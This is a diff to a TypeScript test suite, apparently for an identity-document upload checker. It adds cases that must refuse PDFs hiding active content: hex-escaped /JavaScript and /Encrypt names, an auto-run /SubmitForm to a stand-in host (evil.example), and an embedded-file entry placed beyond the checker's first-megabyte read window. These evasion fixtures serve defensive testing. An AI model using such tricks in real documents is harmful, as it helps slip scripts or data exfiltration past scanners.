@@ -19,6 +19,9 @@ import {
   webp,
 } from '../../support/identityFiles.ts';
 
+/** A name of a PDF with each of its letters escaped. */
+const escaped = (name: string) => [...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join('');
+
 const refusal = async (name: string, bytes: Buffer): Promise<DocumentProblem> => {
   const error = await takeDocument(name, bytes).then(
     () => null,
@@ -126,6 +129,20 @@ describe('Ce qui ne peut pas être pris est refusé avec une phrase claire', () 
     ['suite.pdf', async () => Buffer.concat([pdf(), Buffer.from('et encore')]), /après sa fin/],
     ['serrure.pdf', async () => pdf('/Encrypt 5 0 R'), /mot de passe/],
     ['actif.pdf', async () => pdf('/Names << /JavaScript 3 0 R >>'), /programme ou un fichier joint/],
+    ['cachee.pdf', async () => pdf('/E#6ecrypt 5 0 R'), /mot de passe/],
+    ['cache.pdf', async () => pdf('/Names << /J#61v#61Script 3 0 R >>'), /programme ou un fichier joint/],
+    ['tout-cache.pdf', async () => pdf(`/AA << /S /${escaped('SubmitForm')}\0>>`), /programme ou un fichier joint/],
+    [
+      'envoi.pdf',
+      async () => pdf('/AA << /S /SubmitForm/F (https://evil.example) >>'),
+      /programme ou un fichier joint/,
+    ],
+    [
+      // Written across the end of the first million of bytes, by which the file is read.
+      'loin.pdf',
+      async () => pdf(`${' '.repeat((1 << 20) - 75)}/${escaped('EmbeddedFiles')} 3 0 R`),
+      /programme ou un fichier joint/,
+    ],
     ['coupee.heic', async () => heic().subarray(0, 200), /est incomplet/],
     ['presque.heic', async () => heic().subarray(0, -1), /est incomplet/],
     ['bruit.heic', async () => heicNoise(), /ne se lit pas jusqu’au bout comme une photo HEIC/],
